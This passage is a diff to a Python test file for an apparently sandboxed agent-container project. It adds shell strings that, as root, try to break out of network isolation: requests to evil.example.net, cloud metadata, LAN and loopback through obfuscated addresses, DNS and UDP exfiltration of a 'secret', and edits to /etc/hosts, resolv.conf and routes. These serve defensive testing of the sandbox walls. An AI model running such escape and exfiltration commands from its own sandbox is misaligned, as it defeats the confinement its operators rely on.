@@ -18,17 +18,66 @@ import pytest
 from tests.support import named_world as world
 from tests.support.bottle import Bottle, Ended, end, wait_until
 from tests.support.engines import CHECKOUT, Docker
-from tests.support.named_world import ALLOWED
+from tests.support.named_world import ALLOWED, EMULATOR, LAN, METADATA, REFUSED, RESOLVER
 from tests.support.repos import make_repo
 from tests.support.world import furnish
 from tests.vm.conftest import COMMAND
-from tests.vm.test_walls import ESCAPES, TOOLS
 
 from bot_bottle.host.progress import Progress
 from bot_bottle.network.probes import BUSYBOX
 from bot_bottle.vm.emulated.host import prepare_emulation
 
 HOST = "api.example.org"
+BB = " ".join(BUSYBOX)
+# a question over TCP: its length, its head, "secret.tcp" and its type and class
+QUESTION = r"\0\034bo\1\0\0\1\0\0\0\0\0\0\6secret\3tcp\0\0\1\0\1"
+# the toolkit's programs under their names: the shell does not find them, since the toolkit has no links
+TOOLS = f"""
+for each in nc ping ip wget head wc; do eval "$each() {{ {BB} $each \\"\\$@\\"; }}"; done
+get() {{ printf 'GET / HTTP/1.0\\r\\nHost: evil.example.net\\r\\n\\r\\n' | nc -w 3 "$@"; }}
+ask() {{ {BB} timeout 5 {BB} nslookup "$@"; }}
+fetched() {{ [ "$(wget -q -T 20 -O - "http://$1/")" != ok ] || echo "$1 ok"; }}
+"""
+# Tried in this order, by root. What comes of it is not looked at here: the world's log says what got out.
+ESCAPES = f"""
+get evil.example.net 80
+get {REFUSED} 80
+get {REFUSED} 443
+get sub.api.example.org 80
+get wild.example.org 80
+get ::ffff:{REFUSED} 80
+get 64:ff9b::{REFUSED} 80
+get {METADATA} 80
+get {LAN} 80
+get meta.wild.example.org 80
+get 127.0.0.1 80
+get loop.wild.example.org 80
+get 0.0.0.0 80
+get 2130706433 80
+get 0x7f.1 80
+get {EMULATOR} 80
+get 198.18.1.2 80
+get 10.0.2.2 80
+get emulator.wild.example.org 80
+get 100.96.0.1 80
+get 100.96.0.1 443
+get lan.wild.example.org 80
+get -s 127.0.0.1 {REFUSED} 80
+ask secret.evil.example.net
+ask secret.evil.example.net {RESOLVER}
+ask -type=txt secret.evil.example.net {RESOLVER}
+ask secret.evil.example.net {REFUSED}
+printf '{QUESTION}' | nc -w 3 {RESOLVER} 53
+for at in "{REFUSED} 443" "{RESOLVER} 443" "255.255.255.255 443" "224.0.0.251 5353"; do
+  echo secret | {BB} timeout 2 {BB} nc -u $at
+done
+ping -c 1 -W 2 -w 3 {REFUSED}
+echo "{REFUSED} api.example.org" >> /etc/hosts; get api.example.org 80
+echo "nameserver {REFUSED}" > /etc/resolv.conf; get evil.example.net 80; ask secret.evil.example.net
+ip addr add 10.77.0.9/24 dev eth0; get -s 10.77.0.9 {LAN} 80
+ip route add {REFUSED}/32 dev eth0; get {REFUSED} 80
+ip route add {LAN}/32 dev lo; get {LAN} 80
+"""
 DATA = bytes(range(256)) * 8192  # 2 MB
 SCRIPT = f"""
 sha256sum
